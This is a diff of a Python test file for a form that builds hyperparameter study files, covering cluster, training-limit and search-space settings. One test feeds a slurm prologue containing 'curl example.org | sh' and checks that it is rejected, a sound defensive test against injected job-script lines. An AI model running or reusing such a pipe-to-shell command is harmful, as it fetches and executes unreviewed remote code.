@@ -40,32 +40,29 @@ def test_a_form_says_where_a_study_runs() -> None:
     assert made(permissions, cluster=None).cluster == LocalClusterSpec(workers=2)
     at = {"address": {"address": "tls://a:1"}}
     assert made(permissions, cluster=at).cluster == AddressClusterSpec(address="tls://a:1")
-    assert made(permissions, cluster={"local_cuda": {"advanced": {"devices": [1]}}}).cluster == LocalCudaClusterSpec(
-        devices=[1]
-    )
+    assert made(permissions, cluster={"local_cuda": {}}).cluster == LocalCudaClusterSpec()
     several = made(permissions, cluster={"local": {"workers": "{min: 1, max: 4}"}}).cluster
     assert several.scales is not None
     with pytest.raises(NotAllowedError, match="tls://b:1"):
         made(permissions, cluster={"address": {"address": "tls://b:1"}})
 
 
-@pytest.mark.parametrize("kind", ["slurm", "kubernetes"])
-def test_a_form_writes_no_lines_of_a_job_script(kind: str) -> None:
+def test_a_form_writes_no_lines_of_a_job_script() -> None:
     """They run code, also where the kind is allowed for study files."""
-    permissions = Permissions(("models.net:fit",), clusters=(kind,))
+    permissions = Permissions(("models.net:fit",), clusters=("slurm",))
     with pytest.raises(SpecError, match=r"form.cluster = .* must be one of \{local: \{...\}\}, \{address"):
-        made(permissions, cluster={kind: {"prologue": ["curl example.org | sh"], "image": "x"}})
+        made(permissions, cluster={"slurm": {"prologue": ["curl example.org | sh"]}})
 
 
 def test_limits_of_attempts_have_fields(permissions: Permissions) -> None:
     assert made(permissions).training == TrainingSpec()
-    given = {"max_lost": 5, "stall_timeout": 0, "worker_timeout": 90.0, "fail_fast": 2, "threads": "auto"}
+    given = {"stall_timeout": 0, "worker_timeout": 90.0, "fail_fast": 2, "threads": "auto"}
     training = made(permissions, advanced={"training": given}).training
-    assert (training.max_lost, training.worker_timeout, training.fail_fast, training.threads) == (5, 90, 2, "auto")
+    assert (training.worker_timeout, training.fail_fast, training.threads) == (90, 2, "auto")
     assert training.stall_timeout is None, "0 says none"
     assert made(permissions, training={"retries": "{error: 2}"}).training.allowed(Outcome.ERROR) == 2
-    with pytest.raises(SpecError, match="max_lost"):
-        made(permissions, training={"max_lost": -1})
+    with pytest.raises(SpecError, match="fail_fast"):
+        made(permissions, training={"fail_fast": -1})
 
 
 def test_everything_of_a_study_file_is_said_in_a_form(permissions: Permissions) -> None:
@@ -149,17 +146,13 @@ def test_a_study_file_keeps_what_is_not_changed(permissions: Permissions) -> Non
 def test_conditions_whole_numbers_and_grids(permissions: Permissions) -> None:
     space = {
         "int": [{"name": "width", "low": 8, "high": 32, "advanced": {"step": 8}}],
-        "float": [
-            {"name": "momentum", "low": 0, "high": 0.9, "advanced": {"when": "{kind: [sgd, 16]}", "static": True}}
-        ],
+        "float": [{"name": "momentum", "low": 0, "high": 0.9, "advanced": {"when": "{kind: [sgd, 16]}"}}],
         "categorical": [{"name": "kind", "choices": ["sgd", "16"]}, {"name": "a", "type": "ordinal", "choices": ["1"]}],
-        "normal": [{"name": "z", "type": "lognormal", "mean": 0, "std": 1}],
     }
     found = made(permissions, space=space, search=ASHA).space
     assert found["width"].step == 8 and found["width"].type == "int"  # type: ignore[union-attr]
-    assert found["momentum"].when == {"kind": ["sgd", 16]} and found["momentum"].static
-    assert found["a"].type == "ordinal" and found["z"].type == "lognormal"
-    del space["normal"]
+    assert found["momentum"].when == {"kind": ["sgd", 16]}
+    assert found["a"].type == "ordinal"
     spec = made(permissions, space=space, search={"grid": {"advanced": {"points": "{momentum: 4}"}}})
     assert spec.search.points == {"momentum": 4}  # type: ignore[union-attr]
 
@@ -227,7 +220,7 @@ ROWS: dict[str, Any] = {
     "advanced": {
         "start_with": ["{x: 0.25}"],
         "constants": "{data: a.npz}",
-        "training": {"threads": "2", "max_lost": 0},
+        "training": {"threads": "2", "fail_fast": 0},
     },
 }
 """A form with a parameter of each kind, and fields that hold YAML."""
@@ -246,7 +239,7 @@ STUDY: dict[str, Any] = {
     "search": {"method": "random", "configs": 3, "max_resource": 2},
     "start_with": [{"x": 0.25}],
     "constants": {"data": "a.npz"},
-    "training": {"threads": 2, "max_lost": None},
+    "training": {"threads": 2, "fail_fast": None},
 }
 """The study file that says the same."""
 
